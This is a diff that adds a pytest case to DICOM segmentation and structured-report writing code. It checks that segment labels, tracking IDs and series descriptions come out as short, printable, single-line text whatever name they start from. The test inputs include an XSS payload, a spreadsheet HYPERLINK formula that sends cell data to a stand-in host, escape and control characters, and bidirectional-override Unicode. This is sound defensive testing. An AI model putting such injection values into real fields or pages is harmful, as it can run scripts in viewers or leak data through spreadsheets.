@@ -259,6 +259,38 @@ def test_long_and_odd_names_are_cut_to_what_dicom_holds(case, tmp_path: Path) ->
     assert len(dataset.SegmentSequence[0].SegmentLabel) <= 64
 
 
+@pytest.mark.parametrize(
+    "name",
+    [
+        "</script><img src=x onerror=alert(1)>",
+        '=HYPERLINK("http://x/?"&A1,"open")',
+        "one\\two\\three",
+        "\x1b$B escape \x1b(B, a zero \0, a bell \a and a line\nof its own",
+        "right to left \u202e\u2066 and nothing \u200b between",
+        "x" * 5000,
+    ],
+)
+def test_a_name_is_one_line_of_plain_text_in_seg_and_sr_whatever_it_holds(case, tmp_path: Path, name: str) -> None:
+    images, segments = case
+    named = [segments[0], *(dataclasses.replace(each, label=name, tracking_id=name) for each in segments[1:])]
+    seg = segmentation_object(images, named, name)
+    write_segmentation(tmp_path / "seg.dcm", seg, images, named)
+    write_report(tmp_path / "sr.dcm", measurement_report(images, seg, named, name), seg)
+    segmentation, report = (pydicom.dcmread(tmp_path / each) for each in ("seg.dcm", "sr.dcm"))
+    assert iod_problems(segmentation) == iod_problems(report) == []
+    assert segmentation.PatientID == report.PatientID == "17"
+    groups = highdicom.sr.srread(tmp_path / "sr.dcm").content.get_volumetric_roi_measurement_groups()
+    assert [group.tracking_uid for group in groups] == [each.tracking_uid for each in segments], "no group more or less"
+    texts = [each.SegmentLabel for each in segmentation.SegmentSequence[1:]]
+    texts += [each.TrackingID for each in segmentation.SegmentSequence[1:]]
+    texts += [segmentation.SeriesDescription, report.SeriesDescription]
+    texts += [group.tracking_identifier for group in groups[1:]]
+    for text in texts:
+        assert isinstance(text, str) and 0 < len(text) <= 64
+        assert text.isprintable() and "\\" not in text
+        assert text[:10].rstrip() in name.replace("\\", "/").replace("\x1b", ""), "what can be read is kept"
+
+
 def test_empty_segments_are_left_out_and_nothing_at_all_is_refused(case, tmp_path: Path) -> None:
     images, segments = case
     empty = segment("Lesion 9", np.zeros(SHAPE, bool))
